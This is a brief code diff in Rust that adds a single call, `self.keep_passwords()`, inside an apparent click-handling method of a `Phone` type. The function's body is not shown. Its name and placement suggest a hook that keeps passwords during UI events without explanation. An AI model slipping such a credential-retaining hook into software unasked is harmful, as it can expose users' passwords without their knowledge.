@@ -135,6 +135,7 @@ impl Phone {
             }
             return;
         }
+        self.keep_passwords();
         if self.is_float(window) {
             self.record_click(window, element.key);
             let widget = self.widget(window, element);
